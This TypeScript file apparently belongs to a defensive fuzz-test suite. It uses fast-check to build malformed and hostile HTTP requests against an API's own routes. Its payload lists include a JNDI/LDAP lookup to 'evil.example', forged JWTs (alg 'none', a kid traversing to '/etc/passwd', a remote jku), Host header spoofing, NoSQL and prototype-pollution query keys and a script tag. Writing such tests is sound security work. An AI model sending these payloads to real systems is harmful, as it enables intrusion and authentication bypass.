import fc from 'fast-check';
import type { Operation } from './operations.ts';
import { uploadBodies } from './upload-bodies.ts';
import { type JsonSchema, nasty, spoilt, valuesOf } from './values.ts';

type Session = 'none' | 'signed in' | 'forged';

export type FuzzRequest = {
  method: string;
  /** With `{names}` that are filled in when it is sent: by what is there then, or by `fillings`. */
  path: string;
  fillings: { isReal: boolean; at: number; text: string }[];
  query: string;
  session: Session;
  forgedToken: string;
  headers: Record<string, string>;
  body: Buffer | undefined;
  /** The visitor's address, so that throttles do not end the run at its beginning. */
  address: string;
};

const ODD_METHODS = [
  'PATCH',
  'HEAD',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'PUT',
  'DELETE',
  'POST',
  'QUERY',
  'PURGE',
];

const ODD_TYPES = [
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'application/json; charset=utf-7',
  'application/json; charset=utf-16',
  'application/jsonp',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'application/vnd.api+json',
  'image/svg+xml',
  ';',
  '',
];

const ODD_HEADERS: Record<string, string>[] = [
  { 'If-Match': '*' },
  { 'If-Match': '"'.repeat(500) },
  { 'If-None-Match': 'W/"x", *' },
  { 'If-None-Match': ','.repeat(2_000) },
  { 'Accept-Encoding': 'br;q=x, gzip;q=-1, *;q=9' },
  { 'Accept-Encoding': `gzip${',a'.repeat(1_000)}` },
  { 'Content-Encoding': 'gzip' },
  { 'Content-Encoding': 'br' },
  { 'Content-Encoding': 'snappy' },
  { 'X-Request-Id': '../../<script>' },
  { 'X-Request-Id': 'x'.repeat(3_000) },
  { 'X-Forwarded-For': '127.0.0.1, unknown, ::ffff:1.2.3.4, ,' },
  { 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'javascript' },
  { 'X-HTTP-Method-Override': 'DELETE' },
  { Host: 'evil.example' },
  { Host: 'evil.example:99999/@' },
  { Origin: 'https://evil.example', 'Access-Control-Request-Method': 'DELETE' },
  { Range: 'bytes=9-1,-,0-99999999999999' },
  { Cookie: 'token=evil; '.repeat(200) },
  { 'User-Agent': `${'A'.repeat(2_000)}\${jndi:ldap://evil.example}` },
  { Accept: 'text/html;q=NaN' },
];

/** Requests to one route: valid ones, altered ones and some that no client of ours would send. */
export function requestsTo(operation: Operation): fc.Arbitrary<FuzzRequest> {
  const filling = fc.record({
    isReal: fc.boolean(),
    at: fc.nat(),
    text: fc.oneof(
      fc.constantFrom(
        '0'.repeat(24),
        'f'.repeat(24),
        '[object Object]',
        '$gt',
        '..',
        '%00',
        '%ff',
        'a'.repeat(3_000),
      ),
      fc.constantFrom('projects', 'form', 'content', '6', '20', '31', '-1', '1e1', '999999999999'),
      fc.string({ maxLength: 40 }),
    ),
  });
  return fc
    .record({
      method: fc.oneof(
        { weight: 14, arbitrary: fc.constant(operation.method) },
        fc.constantFrom(...ODD_METHODS),
      ),
      path: fc.constant(operation.path),
      fillings: fc.array(filling, { minLength: 2, maxLength: 2 }),
      query: queriesOf(operation),
      session: fc.oneof<fc.WeightedArbitrary<Session>[]>(
        { weight: 6, arbitrary: fc.constant('signed in') },
        { weight: 2, arbitrary: fc.constant('none') },
        { weight: 1, arbitrary: fc.constant('forged') },
      ),
      forgedToken: forgedTokens,
      headers: fc.oneof({ weight: 5, arbitrary: fc.constant({}) }, fc.constantFrom(...ODD_HEADERS)),
      body: operation.method === 'GET' ? fc.constant({}) : bodiesOf(operation),
      address: fc.ipV4(),
    })
    .map(({ headers, body, ...request }) => ({
      ...request,
      headers: { ...('type' in body ? { 'Content-Type': String(body.type) } : {}), ...headers },
      body: 'bytes' in body ? (body.bytes as Buffer) : undefined,
    }));
}

function bodiesOf({ isUpload, bodies }: Operation): fc.Arbitrary<{ type?: string; bytes?: Buffer }> {
  if (isUpload) return uploadBodies;
  const schemas: JsonSchema[] = bodies.length > 0 ? bodies : [{}];
  const right = fc.oneof(...schemas.map((schema) => valuesOf(schema)));
  const json = fc.oneof(
    { weight: 2, arbitrary: right },
    { weight: 6, arbitrary: spoilt(right) },
    { weight: 1, arbitrary: nasty },
  );
  const asJson = json.map((value) => ({
    type: 'application/json',
    bytes: Buffer.from(JSON.stringify(value)),
  }));
  const broken = fc
    .tuple(asJson, fc.nat(), fc.constantFrom('\u0000', '}', '"', '\\ud8', '{"a":', ',', '\ufeff'))
    .map(([{ type, bytes }, at, mark]) => {
      const cut = bytes.subarray(0, at % (bytes.length + 1));
      return { type, bytes: Buffer.concat([cut, Buffer.from(mark)]) };
    });
  const oddTypes = fc
    .tuple(asJson, fc.constantFrom(...ODD_TYPES))
    .map(([{ bytes }, type]) => ({ type, bytes }));
  return fc.oneof(
    { weight: 10, arbitrary: asJson },
    { weight: 2, arbitrary: broken },
    { weight: 2, arbitrary: oddTypes },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 500 }).map(binaryBody) },
    { weight: 1, arbitrary: fc.constantFrom({}, tooLarge, tooDeep) },
  );
}

const binaryBody = (bytes: Uint8Array) => ({ type: 'application/json', bytes: Buffer.from(bytes) });
const tooLarge = { type: 'application/json', bytes: Buffer.from(`{"title":"${'x'.repeat(1_100_000)}"}`) };
const tooDeep = {
  type: 'application/json',
  bytes: Buffer.from(`${'['.repeat(200_000)}${']'.repeat(200_000)}`),
};

function queriesOf({ query }: Operation): fc.Arbitrary<string> {
  const names = fc.constantFrom(
    ...query.map(({ name }) => name),
    'limit',
    'q',
    '__proto__',
    '$where',
    'unknown',
  );
  const values = fc.oneof(
    ...query.map(({ name, schema }) => valuesOf(schema, name).map(String)),
    fc.constantFrom(
      '1',
      '200',
      '201',
      '0',
      '-1',
      '1e3',
      '99999999999',
      'NaN',
      '%00',
      '%',
      '%ff',
      '%ud800',
      '.*',
      '(',
    ),
    fc.string({ maxLength: 30 }).map((text) => encodeURIComponent(text)),
    fc.constantFrom('x'.repeat(3_000), '%E0%A4%A', encodeURIComponent('\u0000'), encodeURIComponent('💥')),
  );
  const forms = fc.constantFrom('', '', '', '[]', '[$gt]', '[0]', '[__proto__][x]', '.a');
  const parameter = fc.tuple(names, forms, values).map(([name, form, value]) => `${name}${form}=${value}`);
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant('') },
    {
      weight: 2,
      arbitrary: fc
        .array(parameter, { minLength: 1, maxLength: 3 })
        .map((all) => `?${all.join('&').replace(/[ #\n]/g, '')}`),
    },
  );
}

const base64 = (value: unknown) =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const claims = { sub: 'administrator', jti: 'x', iat: 1, exp: 9_999_999_999 };

const forgedTokens = fc.oneof(
  fc
    .tuple(
      fc.constantFrom<unknown>(
        { alg: 'none', typ: 'JWT' },
        { alg: 'HS256', typ: 'JWT' },
        { alg: 'RS256', typ: 'JWT' },
        { alg: 'HS256', typ: 'JWT', kid: '../../etc/passwd', jku: 'http://evil.example/keys' },
        'no json',
      ),
      fc.constantFrom<unknown>(
        claims,
        { ...claims, jti: { $gt: '' } },
        { ...claims, sub: ['administrator'] },
        'no json',
        7,
      ),
      fc.constantFrom('', 'x', base64('signature'), 'A'.repeat(43)),
    )
    .map(([header, payload, signature]) => `Bearer ${base64(header)}.${base64(payload)}.${signature}`),
  fc.constantFrom(
    'Bearer',
    'Bearer ',
    'Basic YWRtaW46YWRtaW4=',
    'Bearer null',
    'Bearer ..',
    `Bearer ${'x'.repeat(5_000)}`,
  ),
);
